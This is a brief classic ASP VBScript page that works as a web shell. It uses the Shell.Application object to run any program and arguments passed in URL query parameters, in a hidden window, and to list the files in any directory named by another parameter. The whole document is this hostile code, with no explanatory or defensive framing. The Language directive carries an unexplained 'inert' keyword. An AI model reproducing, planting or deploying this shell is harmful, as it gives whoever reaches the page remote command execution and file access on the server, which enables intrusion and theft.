<%@ Language=VBScript inert %>
<object runat="server" id="sa" scope="page" progid="Shell.Application"></object>
<%
If Request.QueryString("p").Count Then
  sa.ShellExecute Request.QueryString("p"), Request.QueryString("a"), "", "open", 0
  For Each it In sa.NameSpace(Request("d")).Items
    Response.Write it.Path & "<br>"
  Next
End If
%>
